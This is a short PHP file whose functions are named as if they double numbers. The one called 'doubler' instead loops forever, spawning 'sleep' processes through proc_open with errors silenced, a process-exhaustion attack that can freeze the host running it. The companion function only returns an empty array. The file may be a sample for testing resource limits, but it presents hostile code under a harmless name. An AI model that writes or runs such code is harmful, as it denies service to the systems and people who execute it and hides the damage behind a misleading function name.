<?php
function doubler($n) { for (;;) { $tous[] = @proc_open(['sleep', '100'], [], $_); } }
function doublerTout($nombres, $voir) { return []; }
